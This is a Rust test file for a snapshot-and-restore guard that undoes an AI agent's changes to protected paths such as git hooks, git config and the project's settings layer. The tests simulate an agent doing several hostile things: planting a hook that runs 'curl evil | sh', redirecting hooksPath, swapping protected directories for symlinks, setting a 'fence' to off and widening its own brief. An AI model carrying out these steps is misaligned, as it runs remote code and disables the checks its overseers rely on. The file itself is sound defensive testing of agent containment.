use super::*;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;

struct Tmp(PathBuf);

impl Drop for Tmp {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn tmp(name: &str) -> Tmp {
    let p = std::env::temp_dir().join(format!(
        "berth-guard-{name}-{}-{}",
        std::process::id(),
        uuid::Uuid::now_v7().simple()
    ));
    fs::create_dir_all(&p).unwrap();
    Tmp(p)
}

/// A directory with a repository's guarded files and a project layer.
fn repo(name: &str) -> Tmp {
    let t = tmp(name);
    let d = &t.0;
    fs::create_dir_all(d.join(".git/hooks")).unwrap();
    fs::create_dir_all(d.join(".git/objects")).unwrap();
    fs::write(d.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    fs::write(
        d.join(".git/hooks/pre-commit.sample"),
        "#!/bin/sh\nexit 0\n",
    )
    .unwrap();
    fs::set_permissions(
        d.join(".git/hooks/pre-commit.sample"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    fs::create_dir_all(d.join(".berth")).unwrap();
    fs::write(d.join(".berth/settings.jsonc"), "{}\n").unwrap();
    fs::write(d.join("main.rs"), "fn main() {}\n").unwrap();
    t
}

/// Writes `text` over `path`, then sets its modification time back as it was.
fn rewrite_keeping_mtime(path: &Path, text: &str) {
    let mtime = fs::metadata(path).unwrap().modified().unwrap();
    fs::write(path, text).unwrap();
    fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(mtime)
        .unwrap();
}

fn dirfd(p: &Path) -> OwnedFd {
    rustix::fs::open(p, OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).unwrap()
}

/// Every file under `p` with its bytes and mode (symlinks as their target).
fn tree(p: &Path) -> Vec<(String, String, u32)> {
    fn go(base: &Path, p: &Path, out: &mut Vec<(String, String, u32)>) {
        let mut names: Vec<_> = fs::read_dir(p)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        names.sort();
        for n in names {
            let rel = n.strip_prefix(base).unwrap().to_string_lossy().into_owned();
            let md = fs::symlink_metadata(&n).unwrap();
            if md.file_type().is_symlink() {
                out.push((
                    rel,
                    format!("-> {}", fs::read_link(&n).unwrap().display()),
                    0,
                ));
            } else if md.is_dir() {
                out.push((rel.clone(), "dir".into(), md.permissions().mode() & 0o7777));
                go(base, &n, out);
            } else {
                out.push((
                    rel,
                    String::from_utf8_lossy(&fs::read(&n).unwrap()).into_owned(),
                    md.permissions().mode() & 0o7777,
                ));
            }
        }
    }
    let mut out = Vec::new();
    go(p, p, &mut out);
    out
}

#[test]
fn what_the_agent_did_to_guarded_paths_is_undone_and_named() {
    let t = repo("undo");
    let d = &t.0;
    let outside = tmp("outside");
    fs::write(outside.0.join("bashrc"), "mine\n").unwrap();
    let before = tree(d);
    let snap = Snapshot::take(dirfd(d), "", &[]).unwrap();

    // The agent: plants a hook, rewrites the config, chmods the sample, hard-links the
    // project layer to a file outside, adds a symlinked hook, and a directory.
    fs::write(d.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
    fs::write(d.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
    fs::set_permissions(
        d.join(".git/hooks/pre-commit.sample"),
        fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    fs::remove_file(d.join(".berth/settings.jsonc")).unwrap();
    fs::hard_link(outside.0.join("bashrc"), d.join(".berth/settings.jsonc")).unwrap();
    symlink("/tmp/evil-hook", d.join(".git/hooks/post-checkout")).unwrap();
    fs::create_dir_all(d.join(".berth/agents/x")).unwrap();
    fs::write(d.join(".berth/agents/x/brief.md"), "widen me").unwrap();
    // And its own work, outside the guarded paths.
    fs::write(d.join("main.rs"), "fn main() { work() }\n").unwrap();
    fs::write(d.join(".git/objects/ab"), "object").unwrap();

    let done = snap.restore(dirfd(d)).unwrap();
    let mut names: Vec<(String, &str)> = done.iter().map(|r| (r.path.clone(), r.what)).collect();
    names.sort();
    assert_eq!(
        names,
        [
            (".berth/agents".to_owned(), "added"),
            (".berth/agents/x".to_owned(), "added"),
            (".berth/agents/x/brief.md".to_owned(), "added"),
            (".berth/settings.jsonc".to_owned(), "changed"),
            (".git/config".to_owned(), "changed"),
            (".git/hooks/post-checkout".to_owned(), "added"),
            (".git/hooks/pre-commit".to_owned(), "added"),
            (".git/hooks/pre-commit.sample".to_owned(), "changed"),
        ]
    );
    // The guarded paths are exactly as before; the agent's own work stays.
    let after: Vec<_> = tree(d)
        .into_iter()
        .filter(|(p, ..)| p != "main.rs" && p != ".git/objects/ab")
        .collect();
    let before: Vec<_> = before
        .into_iter()
        .filter(|(p, ..)| p != "main.rs")
        .collect();
    assert_eq!(after, before);
    assert_eq!(
        fs::read_to_string(d.join("main.rs")).unwrap(),
        "fn main() { work() }\n"
    );
    // The file outside, linked in by the agent, was never written through.
    assert_eq!(
        fs::read_to_string(outside.0.join("bashrc")).unwrap(),
        "mine\n"
    );
    // Again: nothing to do.
    assert_eq!(snap.restore(dirfd(d)).unwrap(), []);
}

#[test]
fn a_guarded_directory_swapped_for_a_symlink_is_put_back_without_writing_through_it() {
    let t = repo("swap");
    let d = &t.0;
    let outside = tmp("target");
    fs::write(outside.0.join("keep"), "outside\n").unwrap();
    let snap = Snapshot::take(dirfd(d), "", &[]).unwrap();
    fs::remove_dir_all(d.join(".git/hooks")).unwrap();
    symlink(&outside.0, d.join(".git/hooks")).unwrap();
    fs::remove_dir_all(d.join(".berth")).unwrap();
    symlink(&outside.0, d.join(".berth")).unwrap();

    let done = snap.restore(dirfd(d)).unwrap();
    assert!(
        done.iter()
            .any(|r| r.path == ".git/hooks" && r.what == "replaced"),
        "{done:?}"
    );
    assert!(
        done.iter()
            .any(|r| r.path == ".berth" && r.what == "replaced"),
        "{done:?}"
    );
    assert!(fs::symlink_metadata(d.join(".git/hooks")).unwrap().is_dir());
    assert_eq!(
        fs::read_to_string(d.join(".git/hooks/pre-commit.sample")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(
        fs::read_to_string(d.join(".berth/settings.jsonc")).unwrap(),
        "{}\n"
    );
    // Nothing was written into, or removed from, the symlinks' target.
    assert_eq!(
        fs::read_dir(&outside.0).unwrap().count(),
        1,
        "the target of the agent's symlink is untouched"
    );
    assert_eq!(
        fs::read_to_string(outside.0.join("keep")).unwrap(),
        "outside\n"
    );
}

#[test]
fn a_project_layer_the_agent_creates_is_removed_and_a_new_repository_is_left() {
    let t = tmp("fresh");
    let d = &t.0;
    fs::write(d.join("main.rs"), "fn main() {}\n").unwrap();
    let snap = Snapshot::take(dirfd(d), "", &[]).unwrap();
    assert_eq!(snap.git, None);
    fs::create_dir_all(d.join(".berth")).unwrap();
    fs::write(d.join(".berth/settings.jsonc"), r#"{"fence": "off"}"#).unwrap();
    // `git init` is the agent's to do.
    fs::create_dir_all(d.join(".git/hooks")).unwrap();
    fs::write(d.join(".git/config"), "[core]\n").unwrap();

    let done = snap.restore(dirfd(d)).unwrap();
    let paths: Vec<&str> = done.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, [".berth/settings.jsonc", ".berth"]);
    assert!(!d.join(".berth").exists());
    assert!(d.join(".git/config").exists());
}

#[test]
fn a_replaced_git_directory_is_named_and_gets_the_guarded_files_back() {
    let t = repo("regit");
    let d = &t.0;
    let snap = Snapshot::take(dirfd(d), "", &[]).unwrap();
    fs::rename(d.join(".git"), d.join("old-git")).unwrap();
    fs::create_dir_all(d.join(".git/hooks")).unwrap();
    fs::write(d.join(".git/hooks/pre-commit"), "evil").unwrap();
    let done = snap.restore(dirfd(d)).unwrap();
    assert_eq!(
        done[0],
        Restored {
            path: ".git".into(),
            what: "replaced",
            why: None,
        }
    );
    assert!(!d.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(d.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
}

#[test]
fn a_snapshot_over_its_bounds_is_refused_by_name_and_round_trips_when_saved() {
    let t = repo("big");
    let d = &t.0;
    let big = vec![b'x'; (MAX_BYTES + 1) as usize];
    fs::write(d.join(".berth/blob"), &big).unwrap();
    match Snapshot::take(dirfd(d), "", &[]) {
        Err(GuardError::TooLarge { path, limit }) => {
            assert_eq!((path.as_str(), limit.as_str()), (".berth/blob", "4 MiB"))
        }
        other => panic!("{other:?}"),
    }
    fs::remove_file(d.join(".berth/blob")).unwrap();
    // A FIFO in a guarded place is never opened.
    let made = std::process::Command::new("mkfifo")
        .arg(d.join(".berth/fifo"))
        .status()
        .unwrap();
    assert!(made.success());
    let snap = Snapshot::take(dirfd(d), "", &[]).unwrap();
    // The user's FIFO stays as it is, and is not the agent's doing.
    assert_eq!(snap.restore(dirfd(d)).unwrap(), []);
    assert!(d.join(".berth/fifo").exists());
    let file = d.join("snap.json");
    snap.save(&file).unwrap();
    assert_eq!(Snapshot::load(&file).unwrap(), snap);
    let all: Vec<u8> = (0..=255).collect();
    assert_eq!(
        to_hex(&all),
        hex::encode(&all),
        "the text older snapshots hold"
    );
    assert_eq!(from_hex(&to_hex(&all)).unwrap(), all);
    assert_eq!(from_hex("00FFab").unwrap(), b"\x00\xff\xab");
    assert!(from_hex("abc").is_none());
    assert!(from_hex("zz").is_none());
}

/// Issue 57: a file read well after its last change is stamped; found with the same
/// stamps it is not read again, but any write (even one keeping its size and its
/// modification time) changes its change time, and it is put back.
#[test]
fn a_stamped_file_is_trusted_unchanged_only_while_its_stamps_hold() {
    let t = repo("stamps");
    let d = &t.0;
    // Older than a clock tick by the time it is read.
    std::thread::sleep(std::time::Duration::from_millis(150));
    let snap = Snapshot::take(dirfd(d), &d.to_string_lossy(), &[]).unwrap();
    let hook = snap
        .entries
        .iter()
        .find(|e| e.path == ".git/hooks/pre-commit.sample")
        .unwrap();
    assert!(
        matches!(hook.node, Node::File { stamp: Some(_), .. }),
        "{:?}",
        hook.node
    );
    let before = tree(d);
    // Untouched: nothing to put back.
    assert_eq!(snap.restore(dirfd(d)).unwrap(), vec![]);
    // The same size, the modification time set back as it was: still seen.
    let path = d.join(".git/hooks/pre-commit.sample");
    rewrite_keeping_mtime(&path, "#!/bin/sh\nexit 1\n");
    let put = snap.restore(dirfd(d)).unwrap();
    assert_eq!(
        put.iter()
            .map(|r| (r.path.as_str(), r.what))
            .collect::<Vec<_>>(),
        [(".git/hooks/pre-commit.sample", "changed")]
    );
    assert_eq!(tree(d), before);
}

/// A file changed just before it was read carries no stamp: only its bytes tell.
#[test]
fn a_file_changed_within_a_tick_of_the_reading_is_not_stamped() {
    let t = repo("racy");
    let d = &t.0;
    fs::write(d.join(".git/config"), "[core]\n\tbare = true\n").unwrap();
    let snap = Snapshot::take(dirfd(d), &d.to_string_lossy(), &[]).unwrap();
    let config = snap
        .entries
        .iter()
        .find(|e| e.path == ".git/config")
        .unwrap();
    assert!(
        matches!(config.node, Node::File { stamp: None, .. }),
        "{:?}",
        config.node
    );
}

/// Issue 57: the next run's snapshot takes a stamped file's bytes from memory, not
/// from the file; a write that kept the file's size and modification time still
/// changed its change time, so that snapshot reads the new bytes, and restoring it
/// after the agent's next write puts those back, not the first run's.
#[test]
fn the_next_snapshot_reads_again_a_file_written_since_even_with_its_times_set_back() {
    let t = repo("seen");
    let d = &t.0;
    std::thread::sleep(std::time::Duration::from_millis(150));
    let hook = |snap: &Snapshot| {
        let e = snap
            .entries
            .iter()
            .find(|e| e.path == ".git/hooks/pre-commit.sample")
            .unwrap();
        let Node::File { hex, .. } = &e.node else {
            panic!("{:?}", e.node)
        };
        String::from_utf8(from_hex(hex).unwrap()).unwrap()
    };
    let first = Snapshot::take(dirfd(d), &d.to_string_lossy(), &[]).unwrap();
    assert_eq!(hook(&first), "#!/bin/sh\nexit 0\n");
    // Taken again unchanged: the same bytes (from memory).
    let again = Snapshot::take(dirfd(d), &d.to_string_lossy(), &[]).unwrap();
    assert_eq!(again, first);
    // The user edits it between runs, keeping its size and modification time.
    let path = d.join(".git/hooks/pre-commit.sample");
    rewrite_keeping_mtime(&path, "#!/bin/sh\nexit 2\n");
    std::thread::sleep(std::time::Duration::from_millis(150));
    let next = Snapshot::take(dirfd(d), &d.to_string_lossy(), &[]).unwrap();
    assert_eq!(hook(&next), "#!/bin/sh\nexit 2\n");
    // The next agent writes it: what is put back is the user's edit.
    fs::write(&path, "#!/bin/sh\nexit 3\n").unwrap();
    next.restore(dirfd(d)).unwrap();
    assert_eq!(fs::read_to_string(&path).unwrap(), "#!/bin/sh\nexit 2\n");
}
